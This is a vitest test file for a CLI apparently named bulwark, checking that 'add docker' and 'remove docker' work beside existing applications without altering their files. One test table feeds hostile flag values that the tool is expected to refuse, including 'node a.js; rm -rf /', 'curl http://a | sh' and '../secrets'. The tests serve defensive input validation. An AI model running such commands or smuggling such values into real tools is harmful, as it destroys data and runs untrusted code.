/** `add docker` beside applications of other languages: a Dockerfile for theirs, no byte of theirs changed, and all of it goes again. */
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { readTree } from '../../../src/repo/read-tree.ts';
import { exec } from '../../../src/exec.ts';
import { runEmbedded } from '../../../src/verify/run-embedded.ts';
import { FOREIGN_APPLICATIONS, type ForeignApplication } from '../../support/foreign-applications.ts';
import { newLife, type Life } from '../../support/repository-life.ts';

const APPLICATIONS: readonly (readonly [string, ForeignApplication])[] = Object.entries(FOREIGN_APPLICATIONS);

let life: Life;
beforeEach(() => {
  life = newLife();
});
afterEach(() => {
  life.end();
});

const write = (files: Readonly<Record<string, string>>): void => {
  for (const [path, text] of Object.entries(files)) life.write(path, text);
};

/** What is added to files that a repository shares with everybody who adds to it: lines behind its own. */
const SHARED = ['.gitignore', 'Makefile'];

describe.each(APPLICATIONS)('beside %s', (_, { files }) => {
  test('add docker brings an image without a finding, changes no byte, and remove takes it away', async () => {
    write(files);
    const before = life.commit();
    const { code, stderr } = await life.run(['add', 'docker', '--yes']);
    expect(code, stderr).toBe(0);
    expect(stderr).not.toMatch(/^note: (?:Toolchain|Lock|Start command)/m);
    expect(life.git('diff', '--numstat', '--', ...SHARED.map((path) => `:!${path}`))).toBe('');
    for (const path of SHARED) expect(life.read(path).startsWith(files[path] ?? '')).toBe(true);

    const results = await runEmbedded(await readTree(life.root, exec));
    const judged = results.filter(({ check }) => check === 'dockerfile' || check === 'syntax');
    expect(judged.map(({ check, outcome }) => `${check} ${outcome}`).sort()).toEqual([
      'dockerfile passed',
      'syntax passed',
    ]);
    expect(life.read('Dockerfile')).not.toMatch(/app\/run|start\.sh/);
    expect(life.read('.dockerignore')).not.toContain('!app/');

    life.commit();
    expect((await life.run(['check'])).code).toBe(0);
    expect((await life.run(['remove', 'docker', '--yes'])).code).toBe(0);
    life.commit();
    const left = life.git('diff', '--name-only', before).split('\n');
    expect(left.filter((path) => path !== '' && !OURS.test(path))).toEqual([]);
  });
});

/** What bulwark keeps as long as it looks after anything. */
const OURS = /^(?:\.bulwark\/|bulwark\.json$|\.git)/;

describe('what is not known', () => {
  const { files } = FOREIGN_APPLICATIONS.node;

  test('is asked for with the exact flag, and nothing is written', async () => {
    write({ ...files, 'package.json': '{ "name": "plain", "scripts": { "start": "nodemon ." } }\n' });
    const before = life.commit();
    const { code, stderr } = await life.run(['add', 'docker', '--yes']);
    expect(code).toBe(2);
    expect(stderr).toContain("--none-start-command 'node src/server.js'");
    expect(life.commit()).toBe(before);

    const answered = await life.run(['add', 'docker', '--yes', '--none-start-command', 'node src/index.js']);
    expect(answered.code, answered.stderr).toBe(0);
    expect(life.read('Dockerfile')).toContain('CMD ["node", "src/index.js"]');
  });

  test('is no matter for a component that builds no image', async () => {
    write({ ...files, 'package.json': '{ "name": "plain", "scripts": { "start": "nodemon ." } }\n' });
    life.commit();
    const { code, stderr } = await life.run(['add', 'on-call', '--yes']);
    expect(code, stderr).toBe(0);
    expect(stderr).not.toContain('Start command');
  });

  test('a missing lock is told with the command that makes it', async () => {
    write(Object.fromEntries(Object.entries(files).filter(([path]) => path !== 'package-lock.json')));
    life.commit();
    const { code, stderr } = await life.run(['add', 'docker', '--yes']);
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('make it with "npm install --package-lock-only" and commit it');
  });

  test.each([
    ['--none-version', '3.14', 'there is no pinned image of Node.js 3.14'],
    ['--none-start-command', 'node a.js; rm -rf /', 'which only a shell reads'],
    ['--none-files', '../secrets', 'must be paths inside of the repository'],
    ['--none-build-command', 'curl http://a | sh', 'must be plain words'],
    ['--none-program', './cmd/api', 'does not apply: the toolchain is none of go, cargo'],
  ])('%s %s is refused', async (flag, value, why) => {
    write(files);
    const before = life.commit();
    const { code, stderr } = await life.run(['add', 'docker', '--yes', flag, value]);
    expect(code).toBe(2);
    expect(stderr).toContain(why);
    expect(life.commit()).toBe(before);
  });
});

describe('beside a Dockerfile of its owner’s', () => {
  const { files } = FOREIGN_APPLICATIONS.node;
  const DOCKERFILE =
    'FROM node:24 AS build\nRUN npm ci\nFROM node:24 AS run\nEXPOSE 3000\nCMD ["node", "src/index.js"]\n';

  test.each([
    ['with a name', DOCKERFILE],
    ['without a name', DOCKERFILE.replace(' AS run', '')],
  ])('compose builds its last stage %s, and nothing of an image of ours is there', async (_, dockerfile) => {
    write({ ...files, Dockerfile: dockerfile });
    life.commit();
    const { code, stderr } = await life.run(['add', 'docker', 'compose', '--yes']);
    expect(code, stderr).toBe(0);
    expect(life.read('Dockerfile')).toBe(dockerfile);
    const compose = life.read('docker-compose.yml');
    expect(compose).not.toMatch(/target:|healthcheck|\.\/app:/);
    expect(life.read('Makefile')).not.toContain('--target');
    const added = life.git('status', '--porcelain', '--untracked-files=all');
    expect(added).not.toMatch(/docker\/|\.dockerignore|app\//);
    life.commit();
    expect((await life.run(['update'])).stderr).toContain('Nothing to do');
    expect((await life.run(['check'])).code).toBe(0);
  });
});
